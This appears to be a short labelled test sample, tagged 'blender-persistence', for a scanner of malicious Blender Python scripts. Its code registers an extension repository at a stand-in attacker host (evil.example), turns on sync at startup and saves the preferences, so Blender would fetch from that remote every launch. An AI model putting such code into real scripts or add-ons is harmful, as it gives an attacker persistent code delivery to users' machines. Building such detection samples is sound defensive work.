# expect: blender-persistence
import bpy
prefs = bpy.context.path_resolve("preferences")
repo = prefs.extensions.repos.new(name="tools", remote_url="https://evil.example/index.json")
repo.use_sync_on_startup = True
prefs.use_preferences_save = True
